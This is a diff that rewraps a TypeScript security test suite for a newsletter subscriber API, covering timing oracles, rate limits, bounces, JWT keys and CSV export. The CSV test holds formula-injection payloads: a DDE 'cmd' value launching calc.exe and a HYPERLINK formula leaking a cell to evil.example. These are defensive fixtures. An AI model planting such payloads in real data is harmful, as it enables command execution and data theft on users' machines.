@@ -7,7 +7,13 @@ import { createHash, createHmac } from 'node:crypto'
 
 import { parse } from 'csv-parse/sync'
 
-import { ADMIN_EMAIL, ADMIN_PASSWORD, api, type RunningServer, startServer } from '../helpers/server'
+import {
+  ADMIN_EMAIL,
+  ADMIN_PASSWORD,
+  api,
+  type RunningServer,
+  startServer,
+} from '../helpers/server'
 import { type ReceivedEmail, startSmtpServer } from '../helpers/smtpServer'
 
 const PAYLOAD_SECRET = 'hardening-secret-for-tests'
@@ -37,9 +43,12 @@ afterAll(async () => {
   await smtp?.stop()
 })
 
-const subscribe = (email: string) => client.request('POST', '/api/subscribers/subscribe', { json: { email, topics: ['blogs'] } })
-const confirmationTo = (email: string) => (message: ReceivedEmail) => message.to.includes(email) && message.subject.startsWith('Confirm')
-const tokenIn = (text: string, path: string) => new RegExp(`${path}\\?token=([A-Za-z0-9_-]{43})`).exec(text)?.[1] as string
+const subscribe = (email: string) =>
+  client.request('POST', '/api/subscribers/subscribe', { json: { email, topics: ['blogs'] } })
+const confirmationTo = (email: string) => (message: ReceivedEmail) =>
+  message.to.includes(email) && message.subject.startsWith('Confirm')
+const tokenIn = (text: string, path: string) =>
+  new RegExp(`${path}\\?token=([A-Za-z0-9_-]{43})`).exec(text)?.[1] as string
 const median = (values: number[]) => {
   const sorted = [...values].sort((a, b) => a - b)
   const middle = sorted.length / 2
@@ -54,20 +63,32 @@ describe('no timing oracle on /subscribe', () => {
   beforeAll(async () => {
     // Known addresses in every state: 10 pending, 5 confirmed, 5 confirmed then unsubscribed.
     for (const email of known) expect((await subscribe(email)).status).toBe(202)
-    const emails = await smtp.waitForCount((message) => message.subject.startsWith('Confirm') && message.to.some((to) => to.startsWith('known-')), known.length, 30_000)
+    const emails = await smtp.waitForCount(
+      (message) =>
+        message.subject.startsWith('Confirm') && message.to.some((to) => to.startsWith('known-')),
+      known.length,
+      30_000,
+    )
     for (const email of known.slice(10)) {
       const message = emails.find(confirmationTo(email)) as ReceivedEmail
-      const confirmed = await client.request('POST', '/api/subscribers/confirm', { json: { token: tokenIn(message.text, '/api/subscribers/confirm') } })
+      const confirmed = await client.request('POST', '/api/subscribers/confirm', {
+        json: { token: tokenIn(message.text, '/api/subscribers/confirm') },
+      })
       expect(confirmed.status).toBe(200)
     }
     for (const email of known.slice(15)) {
       const message = emails.find(confirmationTo(email)) as ReceivedEmail
-      const manageToken = /unsubscribe\?token=([A-Za-z0-9_-]{43})/.exec(message.rawHeaders['list-unsubscribe'] ?? '')?.[1]
-      const unsubscribed = await fetch(`${server.url}/api/subscribers/unsubscribe?token=${manageToken}`, {
-        method: 'POST',
-        headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
-        body: 'List-Unsubscribe=One-Click',
-      })
+      const manageToken = /unsubscribe\?token=([A-Za-z0-9_-]{43})/.exec(
+        message.rawHeaders['list-unsubscribe'] ?? '',
+      )?.[1]
+      const unsubscribed = await fetch(
+        `${server.url}/api/subscribers/unsubscribe?token=${manageToken}`,
+        {
+          method: 'POST',
+          headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
+          body: 'List-Unsubscribe=One-Click',
+        },
+      )
       expect(unsubscribed.status).toBe(200)
     }
   }, 60_000)
@@ -91,21 +112,32 @@ describe('no timing oracle on /subscribe', () => {
         knownRuns.push(await timed(known[i]))
       }
     }
-    const answers = new Set([...knownRuns, ...freshRuns].map(({ response }) => `${response.status} ${response.text}`))
+    const answers = new Set(
+      [...knownRuns, ...freshRuns].map(({ response }) => `${response.status} ${response.text}`),
+    )
     expect([...answers]).toEqual([`202 ${freshRuns[0].response.text}`])
     const knownMedian = median(knownRuns.map(({ ms }) => ms))
     const freshMedian = median(freshRuns.map(({ ms }) => ms))
-    console.log(`subscribe medians: known ${knownMedian.toFixed(1)} ms, new ${freshMedian.toFixed(1)} ms`)
+    console.log(
+      `subscribe medians: known ${knownMedian.toFixed(1)} ms, new ${freshMedian.toFixed(1)} ms`,
+    )
     expect(Math.abs(knownMedian - freshMedian)).toBeLessThan(20)
   })
 
   test('the confirmation still arrives, from the queue, within its cadence; confirmed addresses get none', async () => {
-    await smtp.waitForCount((message) => message.subject.startsWith('Confirm') && message.to.some((to) => to.startsWith('fresh-')), fresh.length, 30_000)
+    await smtp.waitForCount(
+      (message) =>
+        message.subject.startsWith('Confirm') && message.to.some((to) => to.startsWith('fresh-')),
+      fresh.length,
+      30_000,
+    )
     const started = Date.now()
     expect((await subscribe('cadence@example.org')).status).toBe(202)
     const email = await smtp.waitFor(confirmationTo('cadence@example.org'), 5000)
     expect(Date.now() - started).toBeLessThan(5000)
-    const confirmed = await client.request('POST', '/api/subscribers/confirm', { json: { token: tokenIn(email.text, `${server.url}/api/subscribers/confirm`) } })
+    const confirmed = await client.request('POST', '/api/subscribers/confirm', {
+      json: { token: tokenIn(email.text, `${server.url}/api/subscribers/confirm`) },
+    })
     expect(confirmed.status).toBe(200)
     await sleep(2500) // a queue cycle after the known addresses' second requests
     const confirmations = (email: string) => smtp.messages.filter(confirmationTo(email)).length
@@ -125,7 +157,10 @@ describe('no timing oracle on /subscribe', () => {
     // known-12 is confirmed and has asked twice; fresh-12 is pending and asks its second time now.
     // The limit counts requests whatever the state, so both now answer alike, refusal included.
     expect((await subscribe('fresh-12@example.org')).status).toBe(202)
-    const [knownAnswers, freshAnswers] = [await statuses('known-12@example.org'), await statuses('fresh-12@example.org')]
+    const [knownAnswers, freshAnswers] = [
+      await statuses('known-12@example.org'),
+      await statuses('fresh-12@example.org'),
+    ]
     expect(knownAnswers).toEqual(freshAnswers)
     expect(knownAnswers.at(-1)).toMatch(/^429 /)
   })
@@ -136,20 +171,31 @@ describe('CSV export', () => {
     const address = "=cmd|'/ccalc.exe'!a0@example.org"
     expect((await subscribe(address)).status).toBe(202)
     await smtp.waitFor(confirmationTo(address), 10_000)
-    const found = await client.request('GET', `/api/subscribers?where[email][equals]=${encodeURIComponent(address)}`, { token: adminToken })
+    const found = await client.request(
+      'GET',
+      `/api/subscribers?where[email][equals]=${encodeURIComponent(address)}`,
+      { token: adminToken },
+    )
     const id = found.body.docs?.[0]?.id
     expect(id).toBeDefined()
     const source = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
-    const patched = await client.request('PATCH', `/api/subscribers/${id}`, { token: adminToken, json: { consent: { source } } })
+    const patched = await client.request('PATCH', `/api/subscribers/${id}`, {
+      token: adminToken,
+      json: { consent: { source } },
+    })
     expect(patched.status).toBe(200)
 
-    const exported = await client.request('GET', '/api/subscribers/export.csv', { token: adminToken })
+    const exported = await client.request('GET', '/api/subscribers/export.csv', {
+      token: adminToken,
+    })
     expect(exported.status).toBe(200)
     const rows = parse(exported.text, { columns: true }) as Record<string, string>[]
     const row = rows.find((candidate) => candidate.email.includes('ccalc'))
     expect(row).toMatchObject({ email: `'${address}`, consentSource: `'${source}` })
     expect(row?.consentSource.startsWith(`'=HYPERLINK(`)).toBe(true)
-    const dangerous = rows.flatMap((candidate) => Object.values(candidate)).filter((cell) => /^[=+\-@\t\r]/.test(cell))
+    const dangerous = rows
+      .flatMap((candidate) => Object.values(candidate))
+      .filter((cell) => /^[=+\-@\t\r]/.test(cell))
     expect(dangerous).toEqual([])
   })
 })
@@ -160,11 +206,18 @@ describe('bounces', () => {
     await smtp.waitFor(confirmationTo('bouncy@example.org'), 10_000)
     const responses = await Promise.all(
       Array.from({ length: 20 }, () =>
-        client.request('POST', '/api/subscribers/bounce', { json: { email: 'bouncy@example.org', type: 'hard' }, headers: { 'x-bounce-secret': 'bounce-secret-for-tests' } }),
+        client.request('POST', '/api/subscribers/bounce', {
+          json: { email: 'bouncy@example.org', type: 'hard' },
+          headers: { 'x-bounce-secret': 'bounce-secret-for-tests' },
+        }),
       ),
     )
     expect(responses.map((response) => response.status)).toEqual(Array(20).fill(202))
-    const stored = await client.request('GET', '/api/subscribers?where[email][equals]=bouncy@example.org', { token: adminToken })
+    const stored = await client.request(
+      'GET',
+      '/api/subscribers?where[email][equals]=bouncy@example.org',
+      { token: adminToken },
+    )
     expect(stored.body.docs?.[0]).toMatchObject({ bounceCount: 20, status: 'suppressed' })
   })
 })
@@ -173,6 +226,8 @@ describe('keys', () => {
   test("login tokens are signed with Payload's own hash of the secret, which the derived keys are not", async () => {
     const [header, payload, signature] = adminToken.split('.')
     const jwtKey = createHash('sha256').update(PAYLOAD_SECRET).digest('hex').slice(0, 32)
-    expect(createHmac('sha256', jwtKey).update(`${header}.${payload}`).digest('base64url')).toBe(signature)
+    expect(createHmac('sha256', jwtKey).update(`${header}.${payload}`).digest('base64url')).toBe(
+      signature,
+    )
   })
 })
